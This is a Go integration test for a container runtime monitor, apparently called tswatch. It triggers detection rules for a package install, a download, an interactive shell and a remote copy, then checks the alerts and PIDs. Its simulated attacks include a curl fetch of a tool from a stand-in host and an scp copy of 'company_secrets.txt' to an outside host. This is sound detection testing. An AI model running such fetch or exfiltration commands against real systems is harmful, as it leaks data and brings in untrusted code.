//go:build linux

package watch

import (
	"crypto/rand"
	"fmt"
	"strings"
	"testing"

	"github.com/tsboot/tsboot/integration/watch/scene"
)

// TestStories are the three that tswatch is made for: a package manager in a container that is removed at once, a download
// in another, and somebody who opens a shell in that one and copies data out. The same copy on the host is of no container.
func TestStories(t *testing.T) {
	ref := image(t)
	borrow(t)
	a := start(t)
	s := serve(t, a)
	environ := "SERVER=" + s.Address
	nginx, short := "some-nginx-"+strings.ToLower(rand.Text()), "short-"+strings.ToLower(rand.Text())
	id := container(t, nginx, ref, "--network", "host", "-e", environ)

	docker(t, "run", "--rm", "--name", short, "--user", "54323", "--network", "host", "-e", environ, ref, "apk", "add", "curl")
	docker(t, "exec", nginx, "curl", "-O", "http://unexpected.example/tool")
	docker(t, "exec", "-t", nginx, "sh", "-c", "scp company_secrets.txt somebody@elsewhere.example:. ; exit")
	for _, story := range []struct {
		rule, program, container string
		severity                 int
	}{
		{"docker-package-manager", "apk", short, 2},
		{"docker-download", "curl", nginx, 2},
		{"docker-interactive-shell", "sh", nginx, 2},
		{"docker-remote-copy-out", "scp", nginx, 1},
	} {
		e := a.alert(story.rule)
		if e.Event.Severity != story.severity || e.Process.Name != story.program || e.Event.Action != "executed" {
			t.Errorf("the alert of %s is %+v", story.rule, e)
		}
		checkContainer(t, e, story.container, ref)
		if story.container == nginx && e.Container != nil && e.Container.ID != id {
			t.Errorf("%s is in container %s, want %s", story.program, e.Container.ID, id)
		}
		if story.program != "sh" { // which does not visit the server
			checkPIDs(t, e, s.Visitor(story.program))
		}
	}

	docker(t, "exec", nginx, "sh", "-c", "sleep 0.01 ; exit") // which the shell may run as /proc/self/exe
	if e := a.executed("0.01"); e.Process.Name != "sleep" {
		t.Errorf("an applet of the shell is %q", e.Process.Name)
	}

	asUser(t, []string{environ}, named(t, built(t, standin), "scp"), "company_secrets.txt", "somebody@elsewhere.example:host")
	e := a.alert("base-remote-copy-out")
	if e.Container != nil || e.Event.Severity != 3 || e.Tswatch.Attribution.Method != "host" || e.Process.PID != s.Visitor("scp").Host {
		t.Errorf("the copy on the host is %+v, and its pid %d", e, s.Visitor("scp").Host)
	}
	checkEvents(t, a.events(), id)
}

// checkContainer looks at the container of an alert, and whether its sentence names it.
func checkContainer(t *testing.T, e event, name, ref string) {
	t.Helper()
	c := e.Container
	if c == nil || len(c.ID) != 64 || c.Name != name || len(c.Image.Tag) != 1 || c.Image.Name+":"+c.Image.Tag[0] != ref {
		t.Errorf("%s is in container %+v, want %s of %s", e.Process.Name, c, name, ref)
	}
	if !strings.Contains(e.Message, name) || !strings.Contains(e.Message, ref) {
		t.Errorf("the message does not name the container and its image: %s", e.Message)
	}
}

// checkPIDs compares both pids of an alert with those that /proc had.
func checkPIDs(t *testing.T, e event, want scene.PIDs) {
	t.Helper()
	if (scene.PIDs{Host: e.Process.PID, Inner: e.Process.VPID}) != want || want.Host == 0 || want.Host == want.Inner {
		t.Errorf("%s has the pids %d and %d, want %+v", e.Process.Name, e.Process.PID, e.Process.VPID, want)
	}
	if !strings.Contains(e.Message, fmt.Sprintf("pid %d (pid %d in the container)", want.Host, want.Inner)) {
		t.Errorf("the message does not have both pids %+v: %s", want, e.Message)
	}
}

// checkEvents: whatever came says where it was, or why nobody knows, and nothing is of the host but the copy there.
func checkEvents(t *testing.T, events []event, id string) {
	t.Helper()
	connected := false
	for _, e := range events {
		method, reason := e.Tswatch.Attribution.Method, e.Tswatch.Attribution.Reason
		switch {
		case e.User.ID != "54323":
		case method == "host" && (e.Container != nil || e.Process.Name != "scp"), method == "none" && reason == "", method == "":
			t.Errorf("an event is %+v", e)
		}
		connected = connected || e.Event.Action == "connected-to" && e.Event.Outcome == "success" && e.Container != nil && e.Container.ID == id
	}
	if !connected {
		t.Error("no connection of the container came")
	}
}
